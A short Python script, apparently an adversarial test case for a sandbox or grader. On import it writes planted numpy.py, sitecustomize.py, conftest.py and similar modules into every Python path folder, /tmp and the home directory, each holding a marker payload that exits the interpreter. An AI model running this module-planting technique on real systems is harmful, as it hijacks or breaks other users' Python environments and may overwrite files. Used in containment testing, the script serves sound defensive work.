"""Plants modules for the cases to come: numpy.py, sitecustomize.py, conftest.py where Python might look first."""

import os
import sys

EVIL = "print('BREACH planted module'); raise SystemExit(0)"

for folder in {*sys.path, os.getcwd(), "/tmp", os.path.expanduser("~")}:
    for name in ("numpy", "sitecustomize", "usercustomize", "conftest", "exercise"):
        try:
            with open(os.path.join(folder or ".", f"{name}.py"), "w") as file:
                file.write(EVIL)
        except OSError:
            pass


def attack(*args, **kwargs):
    return None
